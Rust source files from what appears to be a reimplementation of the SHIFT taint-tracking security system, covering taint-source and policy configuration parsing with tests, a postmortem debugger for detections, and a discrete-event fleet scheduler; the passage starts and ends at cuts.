        let (out, _) = instrument(&code, &opts);
        let app_regs_touched: Vec<Gpr> = code
            .iter()
            .flat_map(|i| {
                let mut v = i.uses();
                v.extend(i.def());
                v
            })
            .collect();
        for insn in &out {
            if insn.prov == Provenance::Original {
                continue;
            }
            if let Some(dst) = insn.def() {
                let ok = dst.is_scratch()
                    || dst.index() >= 24 // glue temporaries
                    || app_regs_touched.contains(&dst);
                prop_assert!(
                    ok,
                    "instrumentation wrote unrelated register {dst} in {insn:?} under {opts:?}"
                );
            }
        }
    }

    /// The pass never shrinks code and is linear-ish in its input: the
    /// per-instruction expansion is bounded (the largest template plus the
    /// per-use NaT regeneration is well under 40 instructions).
    #[test]
    fn expansion_is_bounded(
        code in prop::collection::vec(app_insn(), 1..24),
        opts in options(),
    ) {
        let (out, _) = instrument(&code, &opts);
        prop_assert!(out.len() >= code.len());
        prop_assert!(
            out.len() <= code.len() * 40 + 8,
            "implausible expansion: {} → {} under {opts:?}",
            code.len(),
            out.len()
        );
    }

    /// Glue is never instrumented: a fully-glued stream passes through
    /// identically.
    #[test]
    fn glue_passes_through(
        code in prop::collection::vec(app_insn(), 1..16),
        opts in options(),
    ) {
        let glued: Vec<CInsn<Gpr>> = code.into_iter().map(|i| i.glued()).collect();
        let (out, stats) = instrument(&glued, &opts);
        // PerFunction mode prepends its generation sequence; everything
        // else must be byte-identical.
        let body = &out[out.len() - glued.len()..];
        prop_assert_eq!(body, &glued[..]);
        prop_assert_eq!(stats.loads + stats.stores + stats.cmps_relaxed, 0);
    }
}
