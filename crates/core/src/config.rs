//! Taint-source and policy configuration.
//!
//! The paper's SHIFT is configured by "writing a simple configuration file"
//! that the instrumenting compiler and runtime read (§3.3.1, §4.2). This
//! module provides the same: a [`TaintConfig`] value, constructible in code
//! or parsed from the paper-style text format:
//!
//! ```text
//! # taint sources
//! source network on
//! source disk on
//! source keyboard off
//! source args off
//!
//! # policies
//! policy H1 on
//! policy H3 off
//!
//! # violation handling (user-level recovery)
//! action default terminate
//! action H3 abort-transaction
//! action H5 log-and-continue
//! ```

use std::collections::{HashMap, HashSet};

use crate::policy::Policy;

/// A taint-source channel (§3.3.1's list of potential sources).
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum Source {
    /// Network I/O (`net_read`).
    Network,
    /// Disk files (`file_read`).
    Disk,
    /// Keyboard input (`kbd_read`).
    Keyboard,
    /// Program arguments (`get_arg`) — how `tar`-style attacks arrive.
    Args,
}

impl Source {
    /// All channels.
    pub const ALL: [Source; 4] = [Source::Network, Source::Disk, Source::Keyboard, Source::Args];

    /// Configuration-file keyword.
    pub const fn keyword(self) -> &'static str {
        match self {
            Source::Network => "network",
            Source::Disk => "disk",
            Source::Keyboard => "keyboard",
            Source::Args => "args",
        }
    }
}

/// What the user-level violation handler does when a policy fires.
///
/// The paper's SHIFT delivers detection events to a *user-level* handler
/// (§3.3.3), which means policy response is a per-deployment decision rather
/// than a hardwired kill: a production server can log and keep serving, or
/// roll the offending transaction back, where a development box fails stop.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub enum ViolationAction {
    /// Fail-stop: the run ends with [`shift_machine::Exit::Violation`].
    /// This is the default and matches the pre-recovery behaviour.
    #[default]
    Terminate,
    /// Record the violation in the runtime's log, suppress the dangerous
    /// sink effect (the sink returns `-1` to the guest), and resume.
    LogAndContinue,
    /// Record the violation, roll machine and runtime back to the
    /// checkpoint taken at the start of the current transaction (request),
    /// and resume with the next transaction. Falls back to `Terminate`
    /// when no checkpoint is armed.
    AbortTransaction,
}

impl ViolationAction {
    /// All actions.
    pub const ALL: [ViolationAction; 3] = [
        ViolationAction::Terminate,
        ViolationAction::LogAndContinue,
        ViolationAction::AbortTransaction,
    ];

    /// Configuration-file keyword.
    pub const fn keyword(self) -> &'static str {
        match self {
            ViolationAction::Terminate => "terminate",
            ViolationAction::LogAndContinue => "log-and-continue",
            ViolationAction::AbortTransaction => "abort-transaction",
        }
    }
}

/// Which channels taint data, which policies are armed, and how the
/// user-level handler responds when each policy fires.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct TaintConfig {
    sources: HashSet<Source>,
    policies: HashSet<Policy>,
    actions: HashMap<Policy, ViolationAction>,
    default_action: ViolationAction,
}

impl TaintConfig {
    /// The paper's default server posture: network, disk, keyboard and
    /// argument input tainted; every policy armed (low-level policies are
    /// "usually turned on as the default policies", §5.1).
    pub fn default_secure() -> TaintConfig {
        TaintConfig {
            sources: Source::ALL.into_iter().collect(),
            policies: Policy::ALL.into_iter().collect(),
            actions: HashMap::new(),
            default_action: ViolationAction::Terminate,
        }
    }

    /// No sources, no policies: the configuration used for pure performance
    /// baselines with untainted input ("-safe" bars in Figure 7).
    pub fn off() -> TaintConfig {
        TaintConfig {
            sources: HashSet::new(),
            policies: HashSet::new(),
            actions: HashMap::new(),
            default_action: ViolationAction::Terminate,
        }
    }

    /// Enables or disables a source channel.
    pub fn set_source(&mut self, s: Source, on: bool) -> &mut Self {
        if on {
            self.sources.insert(s);
        } else {
            self.sources.remove(&s);
        }
        self
    }

    /// Enables or disables a policy.
    pub fn set_policy(&mut self, p: Policy, on: bool) -> &mut Self {
        if on {
            self.policies.insert(p);
        } else {
            self.policies.remove(&p);
        }
        self
    }

    /// Is the channel a taint source?
    pub fn source_on(&self, s: Source) -> bool {
        self.sources.contains(&s)
    }

    /// Is the policy armed?
    pub fn policy_on(&self, p: Policy) -> bool {
        self.policies.contains(&p)
    }

    /// Sets the response to violations of one specific policy.
    pub fn set_action(&mut self, p: Policy, a: ViolationAction) -> &mut Self {
        self.actions.insert(p, a);
        self
    }

    /// Sets the response for every policy without a per-policy override
    /// (including the `chk.s` guard alarm, which has no [`Policy`] value).
    pub fn set_default_action(&mut self, a: ViolationAction) -> &mut Self {
        self.default_action = a;
        self
    }

    /// The handler's response when `p` fires: the per-policy override if one
    /// was set, the configured default otherwise.
    pub fn action_for(&self, p: Policy) -> ViolationAction {
        self.actions.get(&p).copied().unwrap_or(self.default_action)
    }

    /// The default response (used for violations that carry no [`Policy`],
    /// such as `chk.s` guard alarms).
    pub fn default_action(&self) -> ViolationAction {
        self.default_action
    }

    /// Renders the configuration in the paper-style text format accepted by
    /// [`TaintConfig::parse`]. The output is canonical — sources and
    /// policies in their declared order, every state spelled out — so two
    /// equal configurations render byte-identically and
    /// `parse(render(cfg)) == cfg` exactly (the replay log leans on this).
    pub fn render(&self) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        for s in Source::ALL {
            let state = if self.source_on(s) { "on" } else { "off" };
            let _ = writeln!(out, "source {} {}", s.keyword(), state);
        }
        for p in Policy::ALL {
            let state = if self.policy_on(p) { "on" } else { "off" };
            let _ = writeln!(out, "policy {} {}", p.name(), state);
        }
        let _ = writeln!(out, "action default {}", self.default_action.keyword());
        for p in Policy::ALL {
            if let Some(a) = self.actions.get(&p) {
                let _ = writeln!(out, "action {} {}", p.name(), a.keyword());
            }
        }
        out
    }

    /// Parses the paper-style configuration format. Unknown lines are
    /// errors; `#` starts a comment.
    ///
    /// # Errors
    ///
    /// Returns a message naming the first malformed line.
    pub fn parse(text: &str) -> Result<TaintConfig, String> {
        let mut cfg = TaintConfig::off();
        for (ln, raw) in text.lines().enumerate() {
            let line = raw.split('#').next().unwrap_or("").trim();
            if line.is_empty() {
                continue;
            }
            let mut parts = line.split_whitespace();
            let (kind, name, state) = (parts.next(), parts.next(), parts.next());
            if kind == Some("action") {
                let a = state
                    .and_then(|s| ViolationAction::ALL.into_iter().find(|a| a.keyword() == s))
                    .ok_or_else(|| {
                        format!(
                            "line {}: expected `terminate`, `log-and-continue` or \
                             `abort-transaction`",
                            ln + 1
                        )
                    })?;
                match name {
                    Some("default") => {
                        cfg.set_default_action(a);
                    }
                    Some(n) => {
                        let p = Policy::ALL
                            .into_iter()
                            .find(|p| p.name() == n)
                            .ok_or_else(|| format!("line {}: unknown policy `{n}`", ln + 1))?;
                        cfg.set_action(p, a);
                    }
                    None => {
                        return Err(format!(
                            "line {}: expected `action <policy|default> <response>`",
                            ln + 1
                        ))
                    }
                }
                continue;
            }
            let on = match state {
                Some("on") => true,
                Some("off") => false,
                _ => return Err(format!("line {}: expected `on` or `off`", ln + 1)),
            };
            match (kind, name) {
                (Some("source"), Some(n)) => {
                    let s = Source::ALL
                        .into_iter()
                        .find(|s| s.keyword() == n)
                        .ok_or_else(|| format!("line {}: unknown source `{n}`", ln + 1))?;
                    cfg.set_source(s, on);
                }
                (Some("policy"), Some(n)) => {
                    let p = Policy::ALL
                        .into_iter()
                        .find(|p| p.name() == n)
                        .ok_or_else(|| format!("line {}: unknown policy `{n}`", ln + 1))?;
                    cfg.set_policy(p, on);
                }
                _ => {
                    return Err(format!("line {}: expected `source`, `policy` or `action`", ln + 1))
                }
            }
        }
        Ok(cfg)
    }
}

impl Default for TaintConfig {
    fn default() -> Self {
        TaintConfig::default_secure()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_arms_everything() {
        let cfg = TaintConfig::default();
        for s in Source::ALL {
            assert!(cfg.source_on(s));
        }
        for p in Policy::ALL {
            assert!(cfg.policy_on(p));
        }
    }

    #[test]
    fn parse_round_trip() {
        let cfg = TaintConfig::parse(
            "# server posture\n\
             source network on\n\
             source disk off\n\
             policy H1 on\n\
             policy H5 on  # xss\n\
             policy L3 on\n",
        )
        .unwrap();
        assert!(cfg.source_on(Source::Network));
        assert!(!cfg.source_on(Source::Disk));
        assert!(cfg.policy_on(Policy::H1));
        assert!(cfg.policy_on(Policy::H5));
        assert!(!cfg.policy_on(Policy::H3));
    }

    #[test]
    fn parse_rejects_garbage() {
        assert!(TaintConfig::parse("source network maybe").is_err());
        assert!(TaintConfig::parse("source floppy on").is_err());
        assert!(TaintConfig::parse("policy H9 on").is_err());
        assert!(TaintConfig::parse("frobnicate all the things").is_err());
    }

    #[test]
    fn actions_default_to_terminate() {
        let cfg = TaintConfig::default();
        for p in Policy::ALL {
            assert_eq!(cfg.action_for(p), ViolationAction::Terminate);
        }
        assert_eq!(cfg.default_action(), ViolationAction::Terminate);
    }

    #[test]
    fn parse_actions() {
        let cfg = TaintConfig::parse(
            "policy H3 on\n\
             action default log-and-continue\n\
             action H3 abort-transaction  # roll the request back\n",
        )
        .unwrap();
        assert_eq!(cfg.action_for(Policy::H3), ViolationAction::AbortTransaction);
        assert_eq!(cfg.action_for(Policy::H4), ViolationAction::LogAndContinue);
        assert_eq!(cfg.default_action(), ViolationAction::LogAndContinue);
    }

    #[test]
    fn parse_rejects_bad_actions() {
        assert!(TaintConfig::parse("action H3 explode").is_err());
        assert!(TaintConfig::parse("action H9 terminate").is_err());
        assert!(TaintConfig::parse("action default").is_err());
        assert!(TaintConfig::parse("action").is_err());
    }

    #[test]
    fn per_policy_override_beats_default() {
        let mut cfg = TaintConfig::default_secure();
        cfg.set_default_action(ViolationAction::AbortTransaction);
        cfg.set_action(Policy::H5, ViolationAction::LogAndContinue);
        assert_eq!(cfg.action_for(Policy::H5), ViolationAction::LogAndContinue);
        assert_eq!(cfg.action_for(Policy::H1), ViolationAction::AbortTransaction);
    }

    #[test]
    fn render_parse_round_trips_exactly() {
        let mut cfg = TaintConfig::default_secure();
        cfg.set_source(Source::Keyboard, false)
            .set_policy(Policy::H4, false)
            .set_default_action(ViolationAction::AbortTransaction)
            .set_action(Policy::H5, ViolationAction::LogAndContinue);
        let text = cfg.render();
        let back = TaintConfig::parse(&text).unwrap();
        assert_eq!(back, cfg);
        // Canonical: re-rendering the parsed value is byte-identical.
        assert_eq!(back.render(), text);
        // And the trivial posture round-trips too.
        let off = TaintConfig::off();
        assert_eq!(TaintConfig::parse(&off.render()).unwrap(), off);
    }

    #[test]
    fn toggling() {
        let mut cfg = TaintConfig::off();
        cfg.set_source(Source::Network, true).set_policy(Policy::H3, true);
        assert!(cfg.source_on(Source::Network));
        assert!(cfg.policy_on(Policy::H3));
        cfg.set_policy(Policy::H3, false);
        assert!(!cfg.policy_on(Policy::H3));
    }
}
