//! Postmortem debugging of detections.
//!
//! [`Postmortem`] re-runs a recorded (or freshly constructed) session under
//! forensic settings — every policy action overridden to fail-stop, the
//! instruction trace ring and taint observer armed — and halts execution at
//! the *first* detection with the machine state intact. From there it
//! exposes what the paper's incident-response story needs: the faulting
//! instruction and a disassembly window around it, every register with its
//! NaT bit, the `unat` spill bitmap, slices of the guest's in-memory tag
//! bitmap, and the taint provenance chain from source syscall to sink.
//!
//! The forensic overrides are deliberate and visible: a production session
//! configured to `abort-transaction` rolls a compromised request back and
//! keeps serving, which is exactly what you do *not* want when the goal is
//! to inspect the compromised state. Overriding every action to `terminate`
//! freezes the machine at the violation cycle instead. Cycle counts can
//! therefore differ from a recorded resilient serve once recovery would
//! have kicked in — the debugger stops at the first detection, and the
//! replay shrinker ([`crate::ReplayLog::shrink`]) reduces any multi-request
//! failure to a reproducer where that first detection *is* the failure.

use shift_isa::Gpr;
use shift_machine::{layout, Exit, Fault, Injection, Machine, RegVal, Violation};
use shift_tagmap::tag_location;

use crate::replay::ReplayLog;
use crate::{
    Fleet, Granularity, Policy, ProgramImage, Runtime, Shift, TaintConfig, ViolationAction, World,
};

/// A single-stepping forensic session, frozen (once run) at the first
/// detection.
#[derive(Debug)]
pub struct Postmortem {
    machine: Machine,
    runtime: Runtime,
    granularity: Option<Granularity>,
    exit: Option<Exit>,
}

/// Instructions kept in the trace ring (the last N executed, disassembled
/// in [`Postmortem::trace_listing`]).
pub const TRACE_DEPTH: usize = 32;

fn forensic_config(base: &TaintConfig) -> TaintConfig {
    let mut cfg = base.clone();
    cfg.set_default_action(ViolationAction::Terminate);
    for p in Policy::ALL {
        cfg.set_action(p, ViolationAction::Terminate);
    }
    cfg
}

impl Postmortem {
    /// Prepares a forensic session: spawns a pristine instance from `image`
    /// with `injections` pre-armed, arms the trace ring and taint observer,
    /// and overrides every policy action to fail-stop. Nothing executes
    /// until [`Postmortem::run_to_violation`] or [`Postmortem::step`].
    pub fn new(
        shift: &Shift,
        image: &ProgramImage,
        world: World,
        injections: &[(u64, Injection)],
    ) -> Postmortem {
        let mut machine = image.spawn_injected(injections);
        machine.enable_taint_observer();
        machine.enable_trace(TRACE_DEPTH);
        let runtime = Runtime::new(forensic_config(shift.config()), world, shift.granularity())
            .with_io(shift.io());
        Postmortem { machine, runtime, granularity: shift.granularity(), exit: None }
    }

    /// Prepares a forensic session for connection `c` of a replay log: the
    /// recorded base world plus the connection's request stream and
    /// injection schedule, under the recorded session options (with the
    /// forensic action override).
    ///
    /// # Panics
    ///
    /// Panics if `c` is out of range of the recorded connections.
    pub fn from_log(log: &ReplayLog, fleet: &Fleet, c: usize) -> Postmortem {
        let conn = &log.connections[c];
        let world = conn.requests.iter().fold(log.base.clone(), |w, msg| w.net(msg.clone()));
        Postmortem::new(fleet.shift(), fleet.image(), world, &conn.injections)
    }

    /// Runs until the first detection, fault, clean halt, or `max_insns`
    /// retired instructions. Returns the exit if execution stopped.
    pub fn run_to_violation(&mut self, max_insns: u64) -> Option<&Exit> {
        if self.exit.is_none() {
            let budget = self.machine.stats.instructions.saturating_add(max_insns);
            while self.machine.stats.instructions < budget {
                if let Some(exit) = self.machine.step(&mut self.runtime) {
                    self.exit = Some(exit);
                    break;
                }
            }
        }
        self.exit.as_ref()
    }

    /// Single-steps up to `n` instructions (stopping early on any exit).
    /// Returns the exit if execution stopped.
    pub fn step(&mut self, n: u64) -> Option<&Exit> {
        if self.exit.is_none() {
            for _ in 0..n {
                if let Some(exit) = self.machine.step(&mut self.runtime) {
                    self.exit = Some(exit);
                    break;
                }
            }
        }
        self.exit.as_ref()
    }

    /// How execution stopped, if it has.
    pub fn exit(&self) -> Option<&Exit> {
        self.exit.as_ref()
    }

    /// Current instruction pointer.
    pub fn ip(&self) -> usize {
        self.machine.cpu.ip
    }

    /// Instructions retired so far.
    pub fn instructions(&self) -> u64 {
        self.machine.stats.instructions
    }

    /// Modelled cycles elapsed so far — at a detection, the violation cycle.
    pub fn cycles(&self) -> u64 {
        self.machine.stats.total_time()
    }

    /// Every violation recorded by the runtime so far, in order.
    pub fn violations(&self) -> &[Violation] {
        &self.runtime.violations
    }

    /// Every general register with its value and NaT bit.
    pub fn registers(&self) -> Vec<(Gpr, RegVal)> {
        Gpr::ALL.iter().map(|&r| (r, self.machine.cpu.gpr(r))).collect()
    }

    /// The registers currently carrying a NaT (tainted) bit.
    pub fn nat_registers(&self) -> Vec<Gpr> {
        Gpr::ALL.iter().copied().filter(|&r| self.machine.cpu.gpr(r).nat).collect()
    }

    /// The `unat` spill-bitmap register (NaT bits of spilled registers).
    pub fn unat(&self) -> u64 {
        self.machine.cpu.unat
    }

    /// Disassembly of the last [`TRACE_DEPTH`] executed instructions,
    /// annotated with the current IP.
    pub fn trace_listing(&self) -> String {
        self.machine.trace_listing()
    }

    /// Disassembly window of `radius` instructions around the current IP.
    pub fn disasm_window(&self, radius: usize) -> String {
        let code = self.machine.code();
        let lo = self.ip().saturating_sub(radius);
        let hi = (self.ip() + radius + 1).min(code.len());
        shift_isa::disasm_listing(&code[lo..hi], lo)
    }

    /// The taint provenance chain behind the stop, when one exists: policy
    /// violations carry their chain; NaT-consumption faults fall back to
    /// the observer's fault chain; as a last resort the most recent
    /// recorded violation's chain is used.
    pub fn provenance(&self) -> Option<String> {
        match &self.exit {
            Some(Exit::Violation(v)) => v.provenance.clone(),
            Some(Exit::Fault(Fault::NatConsumption { .. })) => {
                self.machine.taint_observer().and_then(|o| o.fault_chain()).map(str::to_string)
            }
            _ => None,
        }
        .or_else(|| self.runtime.violations.iter().rev().find_map(|v| v.provenance.clone()))
    }

    /// Reads the guest-maintained tag bitmap for `len` bytes starting at
    /// `addr`: one `(address, tagged)` pair per byte. Addresses whose tag
    /// location is unmapped or unimplemented read as untagged. Empty when
    /// the session is uninstrumented (no tag bitmap exists).
    pub fn tagmap_slice(&mut self, addr: u64, len: u64) -> Vec<(u64, bool)> {
        let Some(gran) = self.granularity else { return Vec::new() };
        (addr..addr.saturating_add(len))
            .map(|a| {
                let tagged = tag_location(a, gran).ok().is_some_and(|loc| {
                    self.machine.mem.is_mapped(loc.byte_addr)
                        && self
                            .machine
                            .mem
                            .read_int(loc.byte_addr, 1)
                            .is_ok_and(|b| b as u8 & loc.mask != 0)
                });
                (a, tagged)
            })
            .collect()
    }

    /// Coalesces [`Postmortem::tagmap_slice`] into `(start, len)` runs of
    /// tainted bytes.
    pub fn tainted_ranges(&mut self, addr: u64, len: u64) -> Vec<(u64, u64)> {
        let mut runs: Vec<(u64, u64)> = Vec::new();
        for (a, tagged) in self.tagmap_slice(addr, len) {
            if !tagged {
                continue;
            }
            match runs.last_mut() {
                Some((start, n)) if *start + *n == a => *n += 1,
                _ => runs.push((a, 1)),
            }
        }
        runs
    }

    /// Reads `len` bytes of guest memory starting at `addr`: one
    /// `(address, byte)` pair per address, `None` where the page is
    /// unmapped. This is the `mem` command of the interactive debugger.
    pub fn mem_slice(&mut self, addr: u64, len: u64) -> Vec<(u64, Option<u8>)> {
        (addr..addr.saturating_add(len))
            .map(|a| {
                let byte = if self.machine.mem.is_mapped(a) {
                    self.machine.mem.read_int(a, 1).ok().map(|b| b as u8)
                } else {
                    None
                };
                (a, byte)
            })
            .collect()
    }

    /// Formats the full postmortem: exit, violation cycle, disassembly
    /// around the fault, NaT'd registers, recent trace, provenance chain,
    /// and tainted ranges in the hot regions (top of stack, globals). This
    /// is what `shift-cli replay --debug` prints.
    pub fn report(&mut self) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        match &self.exit {
            Some(exit) => {
                let _ = writeln!(out, "stopped: {}", crate::replay::exit_signature(exit));
            }
            None => {
                let _ = writeln!(out, "stopped: (still running)");
            }
        }
        let _ = writeln!(
            out,
            "at ip={} after {} instructions, cycle {}",
            self.ip(),
            self.instructions(),
            self.cycles()
        );
        for v in self.violations() {
            let _ = writeln!(out, "violation: {} at ip={}: {}", v.policy, v.ip, v.message);
        }
        if let Some(chain) = self.provenance() {
            let _ = writeln!(out, "provenance: {chain}");
        }
        let nats = self.nat_registers();
        if nats.is_empty() {
            let _ = writeln!(out, "NaT registers: none");
        } else {
            let names: Vec<String> = nats.iter().map(|r| r.to_string()).collect();
            let _ = writeln!(out, "NaT registers: {}", names.join(" "));
        }
        let _ = writeln!(out, "unat: {:#018x}", self.unat());
        let _ = writeln!(out, "\n-- code around fault --");
        out.push_str(&self.disasm_window(4));
        let _ = writeln!(out, "\n-- last {TRACE_DEPTH} instructions --");
        out.push_str(&self.trace_listing());
        let _ = writeln!(out, "\n-- tainted memory --");
        let stack_lo = layout::stack_top() - 0x1000;
        for (label, base, len) in
            [("stack", stack_lo, 0x1000u64), ("globals", layout::GLOBALS_BASE, 0x1000)]
        {
            let runs = self.tainted_ranges(base, len);
            if runs.is_empty() {
                let _ = writeln!(out, "{label}: clean");
            } else {
                for (start, n) in runs {
                    let _ = writeln!(out, "{label}: {start:#x} +{n} tainted");
                }
            }
        }
        out
    }
}
