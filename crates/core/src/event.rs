//! Event-driven open-loop fleet scheduling (DESIGN.md §16).
//!
//! The closed-loop [`crate::fleet::Fleet::serve`] path walks a fixed request
//! list with one resident instance per in-flight connection — fine for
//! throughput geomeans, useless for the paper's real claim: a *production
//! server under load*, where connections arrive on their own clock and tail
//! latency is the number that matters. This module supplies the missing
//! half: a discrete-event simulation (DES) that multiplexes thousands of
//! connections over `W` modelled workers.
//!
//! ## Two-phase architecture
//!
//! Connections share no modelled state (each runs on a pristine spawn of
//! the shared image), so the simulation splits exactly:
//!
//! 1. **Trace capture** (parallel, host-side): every connection is
//!    pre-simulated once with yield-on-I/O parking armed
//!    ([`crate::ServeSession`]), producing its [`Segment`] trace — the
//!    alternating `(cpu, io)` legs of its execution. The park/resume
//!    differential tests pin that this run is bit-identical to a
//!    straight-through serve, so the trace is *the* connection's behaviour,
//!    not an approximation of it.
//! 2. **Event loop** (sequential, cheap): a binary-heap run queue keyed on
//!    modelled cycles replays the traces against the arrival schedule:
//!    workers execute cpu legs (sliced by the round-robin quantum), parked
//!    connections sleep out their io legs with the worker free, admission
//!    control bounds the accept queue and sheds the overflow.
//!
//! Because phase 1 is pure per connection and phase 2 is sequential, the
//! outcome is bit-identical at any *host* worker count — the same
//! determinism contract as the closed-loop fleet — while the modelled
//! worker count `W` is an input of the simulation.
//!
//! Shed connections never run in the model; their pre-simulated traces are
//! simply unused (the price of keeping phase 1 embarrassingly parallel).

use std::cmp::Reverse;
use std::collections::{BTreeSet, BinaryHeap, VecDeque};

use shift_obs::TraceKind;

/// One leg of a parked connection's execution trace: occupy a worker for
/// `cpu` cycles, then wait `io` cycles with the worker free (the modelled
/// I/O is in flight).
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub struct Segment {
    /// CPU cycles executed before the park.
    pub cpu: u64,
    /// I/O wait cycles charged at the park.
    pub io: u64,
}

/// Admission-control and scheduling parameters of the open-loop event loop.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct OpenLoopConfig {
    /// Modelled worker count `W`: how many cpu legs run concurrently.
    pub workers: usize,
    /// Accept-queue bound: arrivals beyond this wait-list length are shed.
    pub accept_cap: usize,
    /// Residency cap: connections holding a live (admitted) slot at once.
    /// This — not the total connection count — bounds resident guests.
    pub max_resident: usize,
    /// Round-robin fairness quantum in cycles: a cpu leg longer than this
    /// is sliced and the connection re-queued at the back. `0` runs every
    /// leg to its park point unsliced.
    pub quantum: u64,
}

impl Default for OpenLoopConfig {
    fn default() -> OpenLoopConfig {
        OpenLoopConfig { workers: 8, accept_cap: 1024, max_resident: 256, quantum: 100_000 }
    }
}

/// What the event loop did with one offered connection.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Disposition {
    /// Turned away at arrival: the accept queue was full with residency at
    /// its cap. The connection never ran.
    Shed,
    /// Admitted, ran, completed.
    Done {
        /// Cycle the connection was admitted onto a resident slot.
        admitted: u64,
        /// Cycle its first cpu slice started on a worker.
        started: u64,
        /// Cycle its last segment finished.
        finished: u64,
        /// Dense resident-slot id it occupied (also its trace track).
        slot: u64,
    },
}

/// Outcome of one [`simulate`] run: the scheduler-level aggregates; the
/// caller joins them with the per-connection serve results.
#[derive(Clone, Debug)]
pub struct DesReport {
    /// Per-connection dispositions, in connection order.
    pub dispositions: Vec<Disposition>,
    /// Cycle of the last event — the modelled session makespan.
    pub wall_cycles: u64,
    /// Connections shed by admission control.
    pub shed: u64,
    /// Sum of all executed cpu slices: worker-busy integral, for
    /// utilization (`busy / (wall × workers)`).
    pub busy_cycles: u64,
    /// Largest ready + accept queue depth observed.
    pub peak_queue_depth: u64,
    /// Largest resident-connection count observed (≤ `max_resident`).
    pub peak_resident: u64,
    /// `(cycle, ready + accept depth)` recorded on change — the queue-depth
    /// time series.
    pub queue_depth: Vec<(u64, u64)>,
    /// Scheduler timeline events (admissions, sheds, parks, queue depths)
    /// for the flight recorder's shared scheduler track. Empty unless
    /// requested.
    pub sched_events: Vec<(u64, TraceKind)>,
}

/// Per-connection scheduler state while admitted.
struct Resident {
    seg: usize,
    cpu_left: u64,
    slice: u64,
    started: Option<u64>,
    admitted: u64,
    slot: usize,
}

/// Heap events. Variant order is irrelevant: the `(cycle, seq)` key is
/// unique (seq is a global event counter), so ordering is total and
/// deterministic.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
enum Ev {
    Arrive(usize),
    SliceEnd(usize),
    Wake(usize),
}

/// The sequential event loop: replays `traces` against the `arrivals`
/// schedule (cycle of each connection's arrival, one entry per connection)
/// under `cfg`. With `trace_events` set, scheduler-track timeline events are
/// collected into [`DesReport::sched_events`].
///
/// Deterministic by construction: a binary heap keyed on
/// `(cycle, event-seq)` with a monotone sequence counter makes the event
/// order total, ties broken by creation order.
///
/// # Panics
///
/// When `arrivals` and `traces` disagree on the connection count.
pub fn simulate(
    arrivals: &[u64],
    traces: &[Vec<Segment>],
    cfg: &OpenLoopConfig,
    trace_events: bool,
) -> DesReport {
    assert_eq!(arrivals.len(), traces.len(), "one trace per arrival");
    let n = arrivals.len();
    let workers = cfg.workers.max(1);
    let max_resident = cfg.max_resident.max(1);

    let mut heap: BinaryHeap<Reverse<(u64, u64, Ev)>> = BinaryHeap::with_capacity(n);
    let mut seq: u64 = 0;
    for (c, &at) in arrivals.iter().enumerate() {
        heap.push(Reverse((at, seq, Ev::Arrive(c))));
        seq += 1;
    }

    let mut conns: Vec<Option<Resident>> = (0..n).map(|_| None).collect();
    let mut dispositions = vec![Disposition::Shed; n];
    let mut free_slots: BTreeSet<usize> = (0..max_resident).collect();
    let mut accept: VecDeque<usize> = VecDeque::new();
    let mut ready: VecDeque<usize> = VecDeque::new();
    let mut idle = workers;
    let mut resident: usize = 0;

    let mut report = DesReport {
        dispositions: Vec::new(),
        wall_cycles: 0,
        shed: 0,
        busy_cycles: 0,
        peak_queue_depth: 0,
        peak_resident: 0,
        queue_depth: Vec::new(),
        sched_events: Vec::new(),
    };
    let mut last_depth = u64::MAX;

    // Admit: claim the lowest free slot (deterministic) and ready the
    // first segment.
    macro_rules! admit {
        ($c:expr, $t:expr) => {{
            let slot = *free_slots.iter().next().expect("admit under residency cap");
            free_slots.remove(&slot);
            resident += 1;
            report.peak_resident = report.peak_resident.max(resident as u64);
            conns[$c] = Some(Resident {
                seg: 0,
                cpu_left: traces[$c].first().map_or(0, |s| s.cpu),
                slice: 0,
                started: None,
                admitted: $t,
                slot,
            });
            if trace_events {
                report
                    .sched_events
                    .push(($t, TraceKind::Admitted { connection: $c as u64, slot: slot as u64 }));
            }
            ready.push_back($c);
        }};
    }

    while let Some(Reverse((t, _, ev))) = heap.pop() {
        report.wall_cycles = report.wall_cycles.max(t);
        match ev {
            Ev::Arrive(c) => {
                if resident < max_resident {
                    admit!(c, t);
                } else if accept.len() < cfg.accept_cap {
                    accept.push_back(c);
                } else {
                    report.shed += 1;
                    if trace_events {
                        report.sched_events.push((t, TraceKind::Shed { connection: c as u64 }));
                    }
                }
            }
            Ev::SliceEnd(c) => {
                idle += 1;
                let state = conns[c].as_mut().expect("slice ends on a resident connection");
                state.cpu_left -= state.slice;
                if state.cpu_left > 0 {
                    // Quantum expired mid-leg: back of the queue (fairness).
                    ready.push_back(c);
                } else {
                    // The cpu leg is done; park for its I/O wait, or move
                    // straight on when the leg charged none.
                    let io = traces[c][state.seg].io;
                    if io > 0 {
                        if trace_events {
                            report.sched_events.push((
                                t,
                                TraceKind::Parked { connection: c as u64, wake: t + io },
                            ));
                        }
                        heap.push(Reverse((t + io, seq, Ev::Wake(c))));
                        seq += 1;
                    } else {
                        heap.push(Reverse((t, seq, Ev::Wake(c))));
                        seq += 1;
                    }
                }
            }
            Ev::Wake(c) => {
                let state = conns[c].as_mut().expect("wakes a resident connection");
                state.seg += 1;
                if state.seg == traces[c].len() {
                    // Completed: release the slot, pull from the accept
                    // queue if anyone is waiting.
                    let state = conns[c].take().expect("completing connection is resident");
                    dispositions[c] = Disposition::Done {
                        admitted: state.admitted,
                        started: state.started.unwrap_or(state.admitted),
                        finished: t,
                        slot: state.slot as u64,
                    };
                    free_slots.insert(state.slot);
                    resident -= 1;
                    if let Some(next) = accept.pop_front() {
                        admit!(next, t);
                    }
                } else {
                    state.cpu_left = traces[c][state.seg].cpu;
                    ready.push_back(c);
                }
            }
        }
        // Dispatch: hand ready connections to idle workers.
        while idle > 0 {
            let Some(c) = ready.pop_front() else { break };
            idle -= 1;
            let state = conns[c].as_mut().expect("ready connection is resident");
            state.started.get_or_insert(t);
            let slice =
                if cfg.quantum > 0 { state.cpu_left.min(cfg.quantum) } else { state.cpu_left };
            state.slice = slice;
            report.busy_cycles += slice;
